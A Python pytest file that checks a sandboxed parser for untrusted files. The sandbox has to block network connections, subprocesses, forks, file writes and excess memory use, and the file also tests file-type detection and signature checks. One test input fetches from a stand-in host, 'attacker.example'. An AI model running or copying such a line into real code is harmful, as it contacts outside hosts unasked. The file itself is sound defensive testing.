"""The process that reads a stranger's file: what it cannot do, whatever a parser is talked into."""

import json
import subprocess
import sys

import pytest
from django.conf import settings

from certification.formats import data_integrity, strangers_file
from certification.formats.strangers_file import Trusted
from tests.certification.formats import samples

pytestmark = pytest.mark.once

TRUSTED = Trusted(samples.DID, samples.KEYS)


def confined(code: str) -> subprocess.CompletedProcess:
    """``code`` run in a process that has been confined."""
    program = f"from certification.formats import strangers_file\nstrangers_file.confine()\n{code}"
    return subprocess.run(
        [sys.executable, "-B", "-c", program], cwd=settings.BASE_DIR, capture_output=True, text=True, check=False
    )


@pytest.mark.parametrize(
    "code",
    [
        "import socket; socket.socket()",
        "import urllib.request; urllib.request.urlopen('https://attacker.example/key')",
        "import subprocess; subprocess.run(['true'])",
        "import os; os.system('true')",
        "import os; os.fork()",
        "open('kept', 'w')",
        "open('kept', 'ab')",
        "import os; os.write(os.open('kept', os.O_CREAT | os.O_WRONLY), b'x')",
    ],
)
def test_it_opens_no_connection_starts_no_program_and_writes_no_file(code):
    ended = confined(code)

    assert ended.returncode != 0
    assert "does not need" in ended.stderr
    assert not (settings.BASE_DIR / "kept").exists()


def test_it_gets_no_more_memory_than_it_was_given():
    ended = confined("a = b'0' * (600 * 1024 * 1024)")

    assert "MemoryError" in ended.stderr


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"%PDF-1.7\n", "pdf"),
        (b"junk before\n%PDF-1.7\n", "pdf"),
        (b"\x89PNG\r\n\x1a\n", "png"),
        (b"  <?xml version='1.0'?><svg/>", "svg"),
        (b'\xef\xbb\xbf{"a": 1}', "json"),
        (b"e30.e30.AA\n", "jwt"),
        (b"https://deshmi.example/v/HZ1J652JFWKP#AAAA", "address"),
        (b"anything", ""),
        (b"", ""),
    ],
)
def test_a_file_is_told_by_its_first_bytes(content, kind):
    assert strangers_file.kind_of(content) == kind


def test_what_it_trusts_crosses_to_the_process_unchanged():
    trusted = Trusted(samples.DID, samples.KEYS, (b"\x30\x00",), samples.CREATED)

    assert Trusted.load(trusted.dump()) == trusted


def test_no_name_in_the_document_is_believed_for_itself():
    signed = data_integrity.secure(samples.unsigned(), samples.SIGNER, created=samples.CREATED)
    nobody = Trusted("did:web:elsewhere.example", {})

    assert strangers_file.tell(json.dumps(signed).encode(), TRUSTED).signature == strangers_file.GOOD
    assert strangers_file.tell(json.dumps(signed).encode(), nobody).signature == strangers_file.FOREIGN
    assert strangers_file.tell(json.dumps(signed).encode(), Trusted(samples.DID, {})).signature == "unknown_key"
